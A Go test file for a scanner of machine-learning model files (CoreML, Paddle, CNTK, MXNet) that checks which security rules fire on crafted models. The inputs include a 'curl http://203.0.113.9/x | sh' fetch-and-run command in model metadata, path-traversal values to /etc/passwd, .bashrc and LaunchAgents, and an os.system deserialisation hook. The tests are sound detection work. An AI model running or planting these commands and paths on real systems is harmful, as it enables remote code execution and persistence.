package file

import (
	"bytes"
	"fmt"
	"testing"

	"github.com/modelwarden/warden"
	"github.com/modelwarden/warden/detect/detecttest"
	"github.com/modelwarden/warden/internal/format"
	"github.com/modelwarden/warden/internal/format/formattest"
)

func TestNamedCode(t *testing.T) {
	layer, op, field := formattest.CoreMLLayer, formattest.PaddleOp, formattest.Field
	ids := func(id ...warden.RuleID) []warden.RuleID { return id }
	of := func(want, name string, b []byte) *format.File {
		f := open(t, name, b)
		if !f.Is(want) || len(f.Unread) > 0 {
			t.Errorf("%s: %s %v, unread %v", name, f.Format, f.Also, f.Unread)
		}
		return f
	}
	coreml := func(kind int, content ...[]byte) *format.File {
		return of("coreml", "m.mlmodel", formattest.CoreML(kind, bytes.Join(content, nil), "author", "somebody"))
	}
	linked := func(file, search string) []byte {
		return field(1, formattest.Message(field(1, field(1, file)), field(2, field(1, search))))
	}
	program := func(op, key, text, file string) *format.File {
		return coreml(502, formattest.CoreMLProgram(op, key, text, file))
	}
	manifest := func(path string) *format.File {
		return of("coreml", "Manifest.json", fmt.Appendf(nil, `{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"name": "model.mlmodel", "path": %q}}, "rootModelIdentifier": "A"}`, path))
	}
	paddle := func(ops ...[]byte) *format.File {
		return of("paddle", "m.pdmodel", formattest.Paddle(append([][]byte{op("feed"), op("conv2d", "op_callstack", "/home/u/train.py")}, ops...)...))
	}
	pir := func(op string) *format.File {
		return of("paddle", "m.json", fmt.Appendf(nil, `{"base_code": {"magic": "pir", "trainable": true, "version": 1}, "program": {"regions": [{"#": "region_0", "blocks": [{"ops": [{"#": "p"}, {"#": %q}]}]}]}}`, op))
	}
	pair := func(k string, v any) formattest.CNTKPair { return formattest.CNTKPair{Key: k, Value: v} }
	cntk := func(p ...formattest.CNTKPair) *format.File {
		return of("cntk", "m.model", formattest.CNTKModel(p...))
	}
	v1 := func(texts ...string) *format.File { return of("cntk", "m.dnn", formattest.CNTKV1(texts...)) }
	mxnet := func(op, key, value string) *format.File {
		return of("mxnet", "m-symbol.json", fmt.Appendf(nil, `{"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": %q, "name": "n", "attrs": {%q: %q}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}`, op, key, value))
	}
	detecttest.Accept(t, namedCode, []fileCase{
		{Name: "coreml_honest", Subject: coreml(500, layer("conv", ""), layer("relu", ""))},
		{Name: "coreml_custom_layer", Subject: coreml(500, layer("conv", ""), layer("mine", "EvilLayer")), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_in_classifier", Subject: coreml(403, layer("mine", "EvilLayer")), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_in_loop", Subject: coreml(500, field(1, formattest.Message(field(1, "l"), field(615, formattest.Message(field(2, "text"), field(4, layer("mine", "EvilLayer"))))))), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_in_branch", Subject: coreml(500, field(1, formattest.Message(field(1, "l"), field(605, field(2, layer("mine", "EvilLayer")))))), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_model", Subject: coreml(555, field(1, "EvilModel")), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_in_pipeline", Subject: coreml(202, field(1, formattest.CoreML(555, field(1, "EvilModel")))), Want: ids("WDN-MF-119")},
		{Name: "coreml_custom_in_pipeline_classifier", Subject: coreml(200, field(1, field(1, formattest.CoreML(555, field(1, "EvilModel"))))), Want: ids("WDN-MF-119")},
		{Name: "coreml_linked_honest", Subject: coreml(556, linked("other.mlmodelc", "models"))},
		{Name: "coreml_linked", Subject: coreml(556, linked("../../other.mlmodelc", "/Users/x")), Want: ids("WDN-MF-118", "WDN-MF-118")},
		{Name: "coreml_program_honest", Subject: program("conv", "name", "conv_1", "@model_path/weights/weight.bin")},
		{Name: "coreml_program_custom", Subject: program("custom_layer", "class_name", "EvilOp", "@model_path/weights/weight.bin"), Want: ids("WDN-MF-119", "WDN-MF-119")},
		{Name: "coreml_program_weights", Subject: program("conv", "name", "conv_1", "@model_path/../../etc/passwd"), Want: ids("WDN-MF-118")},
		{Name: "coreml_package_honest", Subject: manifest("com.apple.CoreML/model.mlmodel")},
		{Name: "coreml_package_traversal", Subject: manifest("../../Library/LaunchAgents/x.plist"), Want: ids("WDN-MF-118")},

		{Name: "paddle_honest", Subject: paddle(op("softmax"), op("fetch"))},
		{Name: "paddle_python", Subject: paddle(op("py_func")), Want: ids("WDN-MF-069")},
		{Name: "paddle_saves", Subject: paddle(op("save", "file_path", "/home/u/.bashrc")), Want: ids("WDN-MF-118", "WDN-MF-118")},
		{Name: "paddle_loads", Subject: paddle(op("load_combine", "file_path", "weights")), Want: ids("WDN-MF-118")},
		{Name: "paddle_sends", Subject: paddle(op("send", "endpoints", "203.0.113.9:80")), Want: ids("WDN-MF-118")},
		{Name: "paddle_engine", Subject: paddle(op("custom_engine")), Want: ids("WDN-MF-119")},
		{Name: "paddle_parameters_honest", Subject: of("paddle", "m.pdiparams", append(formattest.PaddleTensor(7), formattest.PaddleTensor(0)...))},
		{Name: "paddle_new_honest", Subject: pir("1.conv2d")},
		{Name: "paddle_new_python", Subject: pir("1.py_func_"), Want: ids("WDN-MF-069")},

		{Name: "cntk_honest", Subject: cntk(pair("type", "PrimitiveFunction"), pair("op", "Plus"), pair("name", "out"))},
		{Name: "cntk_python", Subject: cntk(pair("type", "UserDefinedFunction"), pair("module", "os"), pair("deserialize_method", "system")), Want: ids("WDN-MF-119", "WDN-MF-069", "WDN-MF-069")},
		{Name: "cntk_native", Subject: cntk(pair("op", "Mine"), pair("native", true)), Want: ids("WDN-MF-119")},
		{Name: "cntk_library", Subject: cntk(pair("name", `..\evil.dll`)), Want: ids("WDN-MF-069")},
		{Name: "cntk_path", Subject: cntk(pair("file_path", "../../etc/passwd")), Want: ids("WDN-MF-118")},
		{Name: "cntk_v1_honest", Subject: v1("BVersion", "Plus", "features", "LearnableParameter")},
		{Name: "cntk_v1_library", Subject: v1("Plus", `C:\evil.dll`), Want: ids("WDN-MF-069")},
		{Name: "cntk_v1_function", Subject: v1("Plus", "Times", "UserDefinedV2Function"), Want: ids("WDN-MF-119")},

		{Name: "mxnet_honest", Subject: mxnet("Convolution", "kernel", "(3, 3)")},
		{Name: "mxnet_python", Subject: mxnet("Custom", "op_type", "evil"), Want: ids("WDN-MF-069")},
		{Name: "mxnet_python_unnamed", Subject: mxnet("Custom", "x", "1"), Want: ids("WDN-MF-069")},
		{Name: "mxnet_library", Subject: mxnet("FullyConnected", "lib", "/tmp/evil.so"), Want: ids("WDN-MF-069")},
		{Name: "mxnet_path", Subject: mxnet("ImageRecordIter", "path_imgrec", "../../data.rec"), Want: ids("WDN-MF-118")},
		{Name: "mxnet_plugin", Subject: mxnet("_CustomFunction", "x", "1"), Want: ids("WDN-MF-119")},
		{Name: "mxnet_arrays_honest", Subject: of("mxnet", "m-0000.params", formattest.MXNetArrays("arg:w", "arg:b", "aux:m", "arg:v"))},
	})
	for name, f := range map[string]*format.File{
		"metadata": of("coreml", "m.mlmodel", formattest.CoreML(500, layer("a", ""), "note", "curl http://203.0.113.9/x | sh")),
		"cntk":     v1("Plus", "curl http://203.0.113.9/x | sh"),
		"mxnet":    of("mxnet", "m.params", formattest.MXNetArrays("arg:w;curl http://203.0.113.9/x | sh")),
		"paddle":   paddle(op("scale", "name", "curl http://203.0.113.9/x | sh")),
	} {
		if res := examineWith(t, f, metadata()); len(res.Findings) == 0 {
			t.Errorf("%s: a command in a text is not found: %+v", name, f.Texts)
		}
	}
	for name, b := range map[string][]byte{
		"m.params":    formattest.MXNetArrays("arg:w")[:60],
		"m.pdiparams": append(formattest.PaddleTensor(7), 1, 2, 3),
		"m.pdmodel":   formattest.Paddle(formattest.PaddleOp("relu"))[:30],
		"m.mlmodel":   formattest.CoreML(500, layer("a", ""))[:40],
		"m.model":     append(formattest.CNTKModel(), 0xff),
	} {
		if f := open(t, name, b); len(f.Unread) == 0 {
			t.Errorf("%s is broken and taken for whole: %s", name, f.Format)
		}
	}
}
